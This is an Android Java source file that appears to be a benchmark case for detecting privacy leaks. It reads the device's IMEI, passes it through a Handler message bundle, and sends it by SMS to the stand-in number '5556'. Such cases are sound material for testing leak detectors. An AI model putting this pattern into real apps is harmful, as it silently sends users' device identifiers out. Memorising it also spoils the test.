package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** In the bundle of a message to a callback of a handler. */
public class HandlerBundle extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        Handler h = new Handler(new Handler.Callback() { public boolean handleMessage(Message m) { SmsManager.getDefault().sendTextMessage("5556", null, m.getData().getString("k"), null, null); return true; } });
        Message m = h.obtainMessage();
        Bundle b = new Bundle();
        b.putString("k", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        m.setData(b);
        h.sendMessage(m);
    }
}
